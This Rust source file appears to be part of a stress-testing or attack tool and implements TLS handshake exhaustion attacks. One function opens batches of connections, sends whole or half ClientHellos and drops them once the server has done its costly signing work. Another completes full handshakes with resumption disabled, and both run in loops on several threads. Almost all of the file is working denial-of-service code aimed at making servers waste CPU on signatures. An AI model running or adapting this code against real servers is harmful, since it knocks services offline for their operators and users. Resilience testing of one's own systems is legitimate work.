//! Handshakes of TLS: each costs a server a signature, and whoever asks for it next to nothing if it does not go on.

use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::time::Duration;

use tokio_rustls::rustls::client::Resumption;
use tokio_rustls::rustls::pki_types::ServerName;
use tokio_rustls::rustls::{ClientConfig, ClientConnection};

use super::attacks::{Assault, PAUSE};

/// Attackers at once.
const THREADS: usize = 4;
/// Handshakes that one of them begins before it lets go of them.
const BEGUN: usize = 50;
/// A server that answers no sooner is not waited for.
const PATIENCE: Duration = Duration::from_millis(200);

/// Handshakes that are begun, some not even with a whole first message, and dropped.
pub fn dropped(assault: &Assault) {
    on_threads(assault, |address, config| {
        let mut begun = Vec::new();
        for number in 0..BEGUN {
            let mut hello = Vec::new();
            client(config, address)?.write_tls(&mut hello)?;
            let length = if number % 2 == 0 { hello.len() } else { hello.len() / 2 };
            let mut socket = connect(address)?;
            socket.write_all(&hello[..length])?;
            begun.push((number % 2 == 0, socket));
        }
        // Those that said all are dropped when the server has done its part.
        for (_, socket) in begun.iter_mut().filter(|(whole, _)| *whole) {
            // It may refuse.
            drop(socket.read(&mut [0; 64]));
        }
        Ok(BEGUN as u64)
    });
}

/// Whole handshakes, without resumption of earlier ones; the connections end at once.
pub fn whole(assault: &Assault) {
    on_threads(assault, |address, config| {
        let (mut client, mut socket) = (client(config, address)?, connect(address)?);
        while client.is_handshaking() {
            client.complete_io(&mut socket)?;
        }
        Ok(1)
    });
}

/// Rounds on several threads; a round gives the attempts made, and after an error there is a pause.
fn on_threads(assault: &Assault, round: impl Fn(SocketAddr, &Arc<ClientConfig>) -> io::Result<u64> + Send + Sync) {
    let (address, connector) = assault.secured.as_ref().expect("the attack says that it needs TLS");
    let mut config = ClientConfig::clone(connector.config());
    config.resumption = Resumption::disabled();
    let config = Arc::new(config);
    std::thread::scope(|scope| {
        for _ in 0..THREADS {
            scope.spawn(|| {
                while assault.goes_on() {
                    match round(*address, &config) {
                        Ok(attempts) => assault.count(attempts),
                        Err(_) => std::thread::sleep(PAUSE),
                    }
                }
            });
        }
    });
}

fn client(config: &Arc<ClientConfig>, address: SocketAddr) -> io::Result<ClientConnection> {
    ClientConnection::new(Arc::clone(config), ServerName::from(address.ip())).map_err(io::Error::other)
}

fn connect(address: SocketAddr) -> io::Result<TcpStream> {
    let socket = TcpStream::connect(address)?;
    socket.set_nodelay(true)?;
    socket.set_read_timeout(Some(PATIENCE))?;
    socket.set_write_timeout(Some(PATIENCE))?;
    Ok(socket)
}
